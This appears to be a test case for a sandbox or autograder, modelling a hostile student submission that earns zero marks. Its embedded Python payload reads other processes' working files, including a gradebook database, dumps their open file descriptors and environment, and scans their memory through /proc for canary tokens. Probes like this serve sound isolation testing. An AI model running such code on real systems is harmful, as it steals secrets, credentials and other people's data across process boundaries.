"""The memory, descriptors, maps and folders of all other processes are read through /proc."""

KIND, GROUP = "hostile", "sandbox"
DESERVED = 0


def apply(s):
    s.wrong()
    s.spy("""
import glob, os, re
for entry in glob.glob("/proc/[0-9]*"):
    if entry == f"/proc/{os.getpid()}":
        continue
    for name in ("/cwd/source/ps1/ps1.ipynb", "/cwd/gradebook.db", "/root/proc/1/environ"):
        try:
            _out(open(entry + name, "rb").read().decode("latin1"))
        except OSError:
            pass
    for link in glob.glob(entry + "/fd/*"):
        try:
            if os.path.isfile(link) and os.path.getsize(link) < 5_000_000:
                _out(open(link, "rb").read().decode("latin1"))
        except OSError:
            pass
    try:
        with open(entry + "/mem", "rb", 0) as memory:
            for line in open(entry + "/maps"):
                low, high = (int(v, 16) for v in line.split()[0].split("-"))
                if "rw" in line and high - low < 1 << 26:
                    try:
                        memory.seek(low)
                        for hit in list(re.finditer(rb"CANARY-(HT|SOL|OTHER|ENV|HOME)-[0-9a-f]{6}", memory.read(high - low)))[:3]:
                            _out(hit.group().decode())
                    except (OSError, ValueError):
                        pass
    except (OSError, ValueError):
        pass
""")
